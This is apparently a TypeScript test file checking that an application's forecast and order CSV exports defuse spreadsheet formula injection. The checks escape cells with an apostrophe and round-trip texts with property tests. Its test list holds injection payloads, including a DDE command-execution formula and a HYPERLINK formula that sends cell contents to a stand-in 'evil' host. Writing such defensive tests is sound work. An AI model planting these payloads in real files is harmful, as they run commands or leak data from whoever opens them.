import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvText } from '../../../src/base/csv-text.ts'
import { forecastCsv } from '../../../src/reporting/forecast-table.ts'
import { orderCsv } from '../../../src/reporting/order-table.ts'

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '@SUM(1+9)*cmd',
  '+1+1',
  '-2+3',
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '"=1+1',
  `'=1+1`,
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  ' －1',
  '＠SUM(A1)',
]

test.each(FORMULAS)('a spreadsheet executes the id %j neither in forecasts nor in orders', (id) => {
  const values = { mean: 1, p10: 1, p50: 1, p90: 1 }
  const csvs = [
    forecastCsv([{ productId: id, storeId: id, from: '2026-10-26', ...values }]),
    orderCsv([{ productId: id, storeId: id, outcome: 'unknown', missing: 'price' }], 'en'),
  ]
  for (const csv of csvs) {
    const [, cells] = records(csv)
    for (const cell of cells.slice(0, 2)) expect(cell).toBe(`'${id}`)
  }
})

test('every text is read back exactly once the apostrophe of a formula is taken away', () => {
  // Few characters, so that those with a meaning meet in most of the texts.
  const unit = fc.constantFrom('"', ',', '\n', '\r', ' ', '\t', "'", '=', '-', '＠', 'a', '\ufeff')
  const texts = fc.array(fc.string({ unit, minLength: 1 }), { minLength: 1 })
  fc.assert(
    fc.property(texts, (texts) => {
      const cells = records(csvText(texts.map((text) => [text, 'x']))).map(([cell]) => cell)
      expect(cells.map((cell) => (isFormula(cell) ? cell.slice(1) : cell))).toEqual(texts)
    }),
  )
})

test('numbers below zero stay numbers, so that a buyer can add them up', () => {
  expect(csvText([['a', -3, -0.5, 1e21]])).toBe('a,-3,-0.5,1000000000000000000000\n')
})

function records(csv: string): string[][] {
  return parse(csv, { record_delimiter: '\n' })
}

function isFormula(cell: string): boolean {
  return /^['"\s]*[=+\-@\t\r\n＝＋－＠]/.test(cell)
}
